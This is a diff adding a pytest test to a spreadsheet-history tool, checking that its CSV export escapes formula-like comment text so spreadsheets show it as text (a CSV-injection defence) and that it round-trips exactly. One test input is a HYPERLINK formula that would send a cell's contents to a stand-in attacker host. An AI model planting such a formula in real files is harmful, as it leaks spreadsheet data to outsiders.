@@ -2,9 +2,11 @@
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 import hashlib
 
+import openpyxl
 import pandas as pd
 import pytest
 import sqlalchemy as sa
@@ -13,7 +15,7 @@ from intraxl.history import export_history, import_history
 from intraxl.store import Received, Store
 from intraxl.validate import validate_file
 
-from .conftest import EXAMPLES, ROOT
+from .conftest import EXAMPLES, ROOT, libreoffice_convert
 from .test_validate import FEB, set_cell, write_hr
 
 HISTORY = ROOT / "workbooks" / "history" / "2022.csv"
@@ -165,3 +167,53 @@ def test_unreachable_database_is_a_clear_error(url):
 
     with pytest.raises(IntraxlError, match="cannot open the history database"):
         Store(url)
+
+
+# Comments a department might write, each a formula to a spreadsheet opening a plain CSV.
+FORMULA_TEXTS = ['=HYPERLINK("http://evil.example/?d="&A1,"Klicka")', "+46 31 365 00 00",
+                 "-5 % mot plan", "@ekonomi se mejl", "'=redan skyddad", "'citat'"]
+PLAIN_TEXTS = ["007", "1 234,5"]  # text that looks like a number stays text
+
+
+def test_csv_export_shows_formula_like_text_as_text_and_reads_back_exactly(
+        db_url, mappings, tmp_path):
+    texts = FORMULA_TEXTS + PLAIN_TEXTS
+    sections = mappings.plan.comment_sections
+
+    def edit(v):
+        for section, text in zip(sections, texts, strict=True):
+            set_cell("Kommentarer", section, "Text", text)(v)
+
+    report = validate_file(write_hr(mappings, tmp_path / "hr.xlsx", edit), mappings, FEB)
+    assert report.valid
+    store = Store(db_url)
+    store.record([Received(report)])
+    out = tmp_path / "export.csv"
+    export_history(store, mappings, out)
+    rows = list(csv.DictReader(out.open(encoding="utf-8")))
+    cells = {(r["ID"], r["Fält"]): r["Värde"] for r in rows}
+    for section, text in zip(sections, texts, strict=True):
+        assert cells[(section, "Text")] == ("'" + text if text in FORMULA_TEXTS else text)
+    assert cells[("resultat.forvaltning", "Prognos helår")] == "-500"  # a number, unchanged
+
+    # LibreOffice opens the export with every such comment as text, the number as a number.
+    lo = tmp_path / "lo"
+    lo.mkdir()
+    sheet = openpyxl.load_workbook(libreoffice_convert(out, "xlsx", lo)).active
+    shown = {(r["ID"], r["Fält"]): cell for r, (*_, cell) in zip(
+        rows, sheet.iter_rows(min_row=2, max_col=7), strict=True)}
+    for section, text in zip(sections, FORMULA_TEXTS, strict=False):
+        assert shown[(section, "Text")].data_type == "s", section
+        assert shown[(section, "Text")].value == "'" + text
+    assert shown[("resultat.forvaltning", "Prognos helår")].value == -500
+
+    # intraxl's own export reads back exactly: every value, of every type.
+    again = Store(f"sqlite:///{tmp_path / 'again.db'}")
+    issues, summary = import_history(out, mappings, again)
+    assert not [i for i in issues if i.severity == "error"] and summary["nya"] == 1
+
+    def facts(s: Store) -> list[tuple]:
+        return sorted(map(tuple, s.facts(["2023-02"]).astype(str).values.tolist()))
+
+    assert facts(again) == facts(store)
+    assert {t for (_, _, table, _, field, t) in facts(again) if field == "Text"} >= set(texts)
